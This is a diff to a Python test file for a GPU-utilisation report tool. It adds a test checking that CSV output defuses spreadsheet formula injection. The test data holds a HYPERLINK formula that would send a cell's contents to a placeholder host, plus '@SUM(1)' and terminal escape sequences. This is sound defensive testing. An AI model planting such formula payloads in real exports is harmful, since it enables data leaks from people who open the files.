@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from typing import Any
 
 import pytest
@@ -11,7 +13,7 @@ from webhook.inventory.nodes import build_inventory
 from webhook.inventory.usage import pod_usage
 from webhook.report.build import build_report
 from webhook.report.model import Report
-from webhook.report.render import render_text
+from webhook.report.render import render_csv, render_text
 from webhook.report.utilisation import GPU_UTIL, GpuUtilisation, reading_from_series
 
 PRICE = 4.0
@@ -78,3 +80,18 @@ def test_the_text_shows_the_control_characters_of_an_exporters_labels_escaped() 
     assert len(idle) == 1 and idle[0].startswith("  w0 gpu 0\\x1b[2J\\x1b[31m 1g.10gb\\n  ml/other")
     assert "\x1b" not in text
     assert report.idle is not None and report.idle[0].gpu == "0\x1b[2J\x1b[31m"  # JSON escapes it itself
+
+
+def test_the_csv_shows_an_exporters_formula_as_text() -> None:
+    """CSV is for spreadsheets, which run a cell starting with =, +, - or @ as a formula; a node's
+    dcgm-exporter names the model and profile of its idle rows as it likes (found by QA)."""
+    model = '=HYPERLINK("http://example.invalid/?"&A1,"H100")'
+    reading = _reading(
+        "w0", "0", 1.0, namespace="ml", pod="trainer", modelName=model, GPU_I_PROFILE="@SUM(1)"
+    )
+    rows = list(csv.DictReader(io.StringIO(render_csv(_report([reading])))))
+    idle = [row for row in rows if row["section"] == "idle"]
+    assert [(row["product"], row["profile"], row["node"]) for row in idle] == [
+        ("'" + model, "'@SUM(1)", "w0")
+    ]
+    assert all(cell[:1] not in "=+-@" for row in rows for cell in row.values() if cell)
